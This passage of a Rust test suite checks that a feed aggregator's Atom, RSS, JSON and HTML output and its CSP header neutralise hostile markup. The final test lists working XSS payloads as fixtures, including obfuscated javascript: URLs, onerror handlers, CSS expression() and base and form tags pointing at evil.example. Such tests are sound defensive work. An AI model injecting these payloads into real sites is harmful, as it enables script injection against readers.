                if !matches!(ty, None | Some("text")) || e.children > 0 {
                    f.add(format!("{at}: a text construct of type {ty:?}"));
                }
                if !exp.operator(&e.text) {
                    check_text(&at, &e.text, f);
                }
            }
            "id" | "uri" if e.parent != "feed" && e.parent != "entry" && !safe_url(&e.text) => {
                f.add(format!("{at}: {:?}", e.text));
            }
            "name" if !exp.operator(&e.text) => check_text(&at, &e.text, f),
            _ => {}
        }
    }
    entries
}

fn check_rss(ctx: &str, body: &[u8], exp: &Expect, f: &mut Findings) -> usize {
    let elems = read_xml(ctx, body);
    let mut items = 0;
    for e in &elems {
        let at = format!("{ctx} <{}> in <{}>", e.name, e.parent);
        if !RSS_ELEMENTS.contains(&e.name.as_str()) {
            f.add(format!("{at}: unexpected element"));
        }
        for (k, v) in &e.attrs {
            if matches!(k.as_str(), "href" | "url" | "domain") && !safe_url(v) {
                f.add(format!("{at}: {k}={v:?}"));
            }
        }
        if e.children > 0 && !matches!(e.name.as_str(), "rss" | "channel" | "item") {
            f.add(format!("{at}: {} child elements", e.children));
        }
        match (e.name.as_str(), e.parent.as_str()) {
            ("item", _) => items += 1,
            ("description", "item") => check_payload(&at, &e.text, f),
            ("link", _) | ("docs", _) => {
                if !safe_url(&e.text) || scheme_of(&e.text).is_none() {
                    f.add(format!("{at}: {:?}", e.text));
                }
            }
            (_, "rss") => {}
            _ => {
                // Plain text in RSS is read as HTML by many readers: source text may
                // not carry markup, operator text must come out as configured.
                if !exp.operator(&e.text) {
                    check_text(&at, &e.text, f);
                }
            }
        }
    }
    items
}

fn check_json(ctx: &str, body: &[u8], exp: &Expect, f: &mut Findings) -> Vec<String> {
    let feed: Value =
        serde_json::from_slice(body).unwrap_or_else(|e| panic!("{ctx}: not JSON: {e}"));
    for key in ["home_page_url", "feed_url"] {
        let u = feed[key].as_str().unwrap_or_default();
        if !safe_url(u) || scheme_of(u).is_none() {
            f.add(format!("{ctx} {key}: {u:?}"));
        }
    }
    let mut titles = Vec::new();
    for (n, item) in feed["items"].as_array().unwrap().iter().enumerate() {
        let at = format!("{ctx} item {n}");
        let title = item["title"].as_str().unwrap_or_default();
        check_text(&format!("{at} title"), title, f);
        titles.push(title.to_owned());
        check_payload(
            &format!("{at} content_html"),
            item["content_html"].as_str().unwrap_or_default(),
            f,
        );
        let u = item["url"].as_str().unwrap_or_default();
        if !safe_url(u) || scheme_of(u).is_none() {
            f.add(format!("{at} url: {u:?}"));
        }
        for tag in item["tags"].as_array().into_iter().flatten() {
            let tag = tag.as_str().unwrap_or_default();
            if !exp.operator(tag) {
                f.add(format!("{at} tag not a configured category: {tag:?}"));
            }
        }
        let extra = &item["_kawaraban"];
        check_text(
            &format!("{at} publisher"),
            extra["publisher"].as_str().unwrap_or_default(),
            f,
        );
        for also in extra["also_reported_by"].as_array().into_iter().flatten() {
            check_text(
                &format!("{at} also publisher"),
                also["publisher"].as_str().unwrap_or_default(),
                f,
            );
            let u = also["url"].as_str().unwrap_or_default();
            if !safe_url(u) {
                f.add(format!("{at} also url: {u:?}"));
            }
        }
    }
    titles
}

/// An HTML page: safe throughout, every post whole (nothing swallowed the markup after
/// it), titles and configured names shown as text.
fn check_page(ctx: &str, body: &[u8], f: &mut Findings) -> Vec<String> {
    let html = std::str::from_utf8(body).unwrap_or_else(|e| panic!("{ctx}: {e}"));
    let doc = Html::parse_document(html);
    check_tree(ctx, &doc, true, f);
    let sel = |s: &str| Selector::parse(s).unwrap();
    let whole = |e: ElementRef, s: &str| e.select(&sel(s)).next().is_some();
    let mut titles = Vec::new();
    for post in doc.select(&sel("article.post")) {
        for part in [
            "h3.title a",
            "div.body",
            "div.body p.attribution",
            "p.posted",
        ] {
            if !whole(post, part) {
                f.add(format!("{ctx}: a post without {part}: {}", post.html()));
            }
        }
        if let Some(a) = post.select(&sel("h3.title a")).next() {
            if a.children().any(|c| !c.value().is_text()) {
                f.add(format!("{ctx}: markup in a title: {}", a.html()));
            }
            titles.push(a.text().collect::<String>());
        }
    }
    for part in ["footer", "header.blog nav", "main"] {
        if !whole(doc.root_element(), part) {
            f.add(format!("{ctx}: no {part}: swallowed?"));
        }
    }
    // Configured names in the navigation: one link each, their text as configured.
    let nav: Vec<String> = doc
        .select(&sel("header.blog nav a"))
        .map(|a| {
            if a.children().any(|c| !c.value().is_text()) {
                f.add(format!("{ctx}: markup in a category link: {}", a.html()));
            }
            a.text().collect()
        })
        .collect();
    for c in [CATEGORY_DEFAULT, CATEGORY_KEYWORD, CATEGORY_SLUG] {
        if !nav.iter().any(|n| n == c) {
            f.add(format!(
                "{ctx}: category {c:?} not shown as text in {nav:?}"
            ));
        }
    }
    titles
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_a_source_sends_runs_in_a_reader() {
    kawaraban::fetch::install_crypto_provider();
    let started = Instant::now();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let host = listener.local_addr().unwrap().to_string();
    let tally: Tally = Arc::default();
    let app = Router::new()
        .route("/{*path}", get(serve))
        .with_state(Origin {
            host: host.clone(),
            tally: tally.clone(),
        });
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let dir = tempfile::tempdir().unwrap();
    let config = Config::parse(&config_text(&host, &dir.path().join("db")), "t.toml").unwrap();
    let store = Store::open(&config.store.path, 8 << 20).unwrap();
    let judge = kawaraban::judge::for_store(&config, &store).unwrap();
    let ingest = Arc::new(
        Ingest::new(config.fetch.clone(), store.clone())
            .unwrap()
            .with_judge(Arc::new(judge)),
    );
    let reports = run_pass(ingest, &config.resolved_sources(), |_| {})
        .await
        .unwrap();
    let mut unreadable = 0;
    for r in &reports {
        assert!(r.error.is_none(), "{r:?}");
        assert_eq!(r.new, r.entries - r.page_errors, "{r:?}");
        unreadable += r.page_errors;
        if r.page_errors > 0 {
            // A page whose own markup hides its text (`<textarea>` opened before the
            // body) gives no article, as it shows none in a browser.
            let why = store.source_state(&r.url).unwrap().last_page_error;
            assert!(
                why.as_deref()
                    .is_some_and(|e| e.contains("no article text found")),
                "{why:?}"
            );
        }
    }
    let stored = store.all_articles().count();
    let posts = store.posts_newest_first().count();
    let xml_vectors = MARKUP.iter().filter(|v| xml_safe(v)).count();
    // Every entry and readable page became an article, and none was folded into
    // another: each vector reaches the output on its own.
    assert_eq!(
        stored + unreadable,
        2 * xml_vectors + 2 * MARKUP.len(),
        "{reports:#?}"
    );
    assert!(unreadable <= 2, "{reports:#?}");
    assert_eq!(posts, stored, "{reports:#?}");
    let ingested = started.elapsed();

    let exp = Expect {
        operator_text: [
            CATEGORY_DEFAULT,
            CATEGORY_KEYWORD,
            CATEGORY_SLUG,
            config.blog.title.as_str(),
            config.blog.author.as_str(),
            config.blog.description.as_str(),
        ]
        .into_iter()
        .map(str::to_owned)
        .collect(),
    };
    let site = Site::new(&config);
    let mut f = Findings::default();
    let mut checked: BTreeMap<&str, usize> = BTreeMap::new();
    let mut feed_titles: BTreeSet<String> = BTreeSet::new();
    let mut page_titles: BTreeSet<String> = BTreeSet::new();
    let paths = site.paths(&store).unwrap();
    for path in &paths {
        let Some(r) = site.render(&store, path).unwrap() else {
            continue;
        };
        let ctx = format!("/{path}");
        let body = &r.body[..];
        if path.ends_with(".atom") {
            assert!(check_atom(&ctx, body, &exp, &mut f) > 0 || path.starts_with("category/"));
            *checked.entry("Atom feeds").or_default() += 1;
        } else if path.ends_with(".rss") {
            check_rss(&ctx, body, &exp, &mut f);
            *checked.entry("RSS feeds").or_default() += 1;
        } else if path.ends_with(".json") {
            let titles = check_json(&ctx, body, &exp, &mut f);
            if path == "feed.json" {
                feed_titles.extend(titles);
            }
            *checked.entry("JSON feeds").or_default() += 1;
        } else if path.ends_with(".css") {
            let css = std::str::from_utf8(body).unwrap();
            assert!(!bad_css(css), "the stylesheet: {css}");
        } else {
            let titles = check_page(&ctx, body, &mut f);
            if path.is_empty() {
                page_titles.extend(titles);
            }
            *checked.entry("HTML pages").or_default() += 1;
        }
    }
    // The blog's own feeds, as the daemon serves them.
    for (path, atom) in [("feed.atom", true), ("feed.rss", false)] {
        let r = site.render(&store, path).unwrap().unwrap();
        if atom {
            check_atom("feed.atom", &r.body, &exp, &mut f);
        } else {
            check_rss("feed.rss", &r.body, &exp, &mut f);
        }
    }

    for t in feed_titles.symmetric_difference(&page_titles) {
        f.add(format!(
            "a title not shown as its text on the index page: {t:?}"
        ));
    }
    for slug in site.category_slugs() {
        let r = site
            .render(&store, &format!("category/{slug}.json"))
            .unwrap()
            .unwrap();
        let feed: Value = serde_json::from_slice(&r.body).unwrap();
        assert!(
            !feed["items"].as_array().unwrap().is_empty(),
            "category {slug} has posts"
        );
    }

    // The server's pages carry a policy that would stop an inline script anyway.
    let cache = Arc::new(SiteCache::new(Site::new(&config), store.clone()));
    let app = kawaraban::server::router(kawaraban::server::AppState {
        cache,
        scheduler_alive: Arc::new(true.into()),
        health: None,
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let blog = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    let some_post = paths.iter().find(|p| p.starts_with("post/")).unwrap();
    // Not the first category: its name has a `/`, which its slug encodes as `%2F`, and
    // the server decodes the whole path before splitting it, so that page is a 404.
    let category = site.category_slugs().nth(1).unwrap().to_owned();
    let client = reqwest::Client::new();
    for path in ["", some_post.as_str(), &format!("category/{category}/")] {
        let resp = client
            .get(format!("http://{blog}/{path}"))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200, "/{path}");
        let csp = resp
            .headers()
            .get(header::CONTENT_SECURITY_POLICY)
            .unwrap_or_else(|| panic!("/{path}: no Content-Security-Policy"))
            .to_str()
            .unwrap()
            .to_owned();
        check_csp(&format!("/{path}"), &csp);
        let body = resp.bytes().await.unwrap();
        check_page(&format!("served /{path}"), &body, &mut f);
    }

    let tally = tally.lock().unwrap().clone();
    let mut report = format!(
        "{} markup vectors ({} XML-safe), {} URL vectors; per field:\n",
        MARKUP.len(),
        xml_vectors,
        URLS.len()
    );
    for (field, n) in &tally {
        report.push_str(&format!("  {field}: {n}\n"));
    }
    report.push_str(&format!(
        "  config: 3 hostile category names, hostile blog title, author, description\n{stored} articles ({unreadable} pages without readable text); outputs checked: {checked:?} ({} paths); ingest {:.1?}, total {:.1?}",
        paths.len(),
        ingested,
        started.elapsed()
    ));
    eprintln!("{report}");
    assert!(
        f.0.is_empty(),
        "{} findings:\n{}",
        f.0.len(),
        f.0.iter().take(60).cloned().collect::<Vec<_>>().join("\n")
    );
}

/// A policy that forbids inline script: no `script-src` falls back to `default-src`,
/// and whichever applies must not allow inline or evaluated code, or script from
/// anywhere.
fn check_csp(ctx: &str, csp: &str) {
    let directives: BTreeMap<String, Vec<String>> = csp
        .split(';')
        .filter_map(|d| {
            let mut parts = d.split_whitespace();
            let name = parts.next()?.to_ascii_lowercase();
            Some((name, parts.map(str::to_ascii_lowercase).collect()))
        })
        .collect();
    let scripts = directives
        .get("script-src-elem")
        .or_else(|| directives.get("script-src"))
        .or_else(|| directives.get("default-src"))
        .unwrap_or_else(|| panic!("{ctx}: {csp:?} restricts no scripts"));
    for allowed in scripts {
        assert!(
            !matches!(
                allowed.as_str(),
                "'unsafe-inline'" | "'unsafe-eval'" | "*" | "data:" | "http:" | "https:" | "blob:"
            ),
            "{ctx}: {csp:?} allows {allowed} for scripts"
        );
    }
    assert!(
        !directives
            .get("script-src-attr")
            .is_some_and(|v| v.iter().any(|s| s == "'unsafe-inline'")),
        "{ctx}: {csp:?} allows inline handlers"
    );
}

/// The checks themselves: each must see what it looks for, or a clean run proves
/// nothing.
#[test]
fn the_checks_catch_what_they_look_for() {
    let attribution = "<p class=\"attribution\">2024/5/1 x</p>";
    for bad in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#1;JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&amp;#106;avascript:alert(1)\">x</a>",
        "<img src=\"https://ok.example/i.png\" srcset=\"data:x 1x\">",
        "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
        "<iframe srcdoc=\"x\"></iframe>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<meta http-equiv=\"refresh\" content=\"0\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example/\"></form>",
        "<a href=\"relative.html\">x</a>",
    ] {
        let mut f = Findings::default();
        check_payload("bad", &format!("{bad}{attribution}"), &mut f);
        assert!(!f.0.is_empty(), "{bad} passed");
    }
    let mut f = Findings::default();
    check_payload("swallowed", &format!("<!-- {attribution}"), &mut f);
    check_payload("swallowed", &format!("<textarea>{attribution}"), &mut f);
    let swallowed = f.0.iter().filter(|s| s.contains("was swallowed")).count();
    assert_eq!(swallowed, 2, "{:?}", f.0);
    let mut f = Findings::default();
    check_payload(
        "good",
        &format!(
            "<p>a <a href=\"https://ok.example/\" rel=\"nofollow\">b</a> &lt;script&gt;</p>{attribution}"
        ),
        &mut f,
    );
    assert!(f.0.is_empty(), "{:?}", f.0);
    for markup in ["<b>x</b>", "a <img src=x", "<!-- x", "</p>", "<?x?>"] {
        assert!(markup_in(markup), "{markup}");
    }
    for text in ["a < b", "&lt;script&gt;", "<3", "速報"] {
        assert!(!markup_in(text), "{text}");
    }
    let mut bad = Vec::new();
    for csp in [
        "default-src 'none'; script-src 'self' 'unsafe-inline'",
        "default-src *",
        "style-src 'self'",
        "default-src 'none'; script-src-attr 'unsafe-inline'",
    ] {
        if std::panic::catch_unwind(|| check_csp("csp", csp)).is_ok() {
            bad.push(csp);
        }
    }
    assert!(bad.is_empty(), "{bad:?} passed");
}
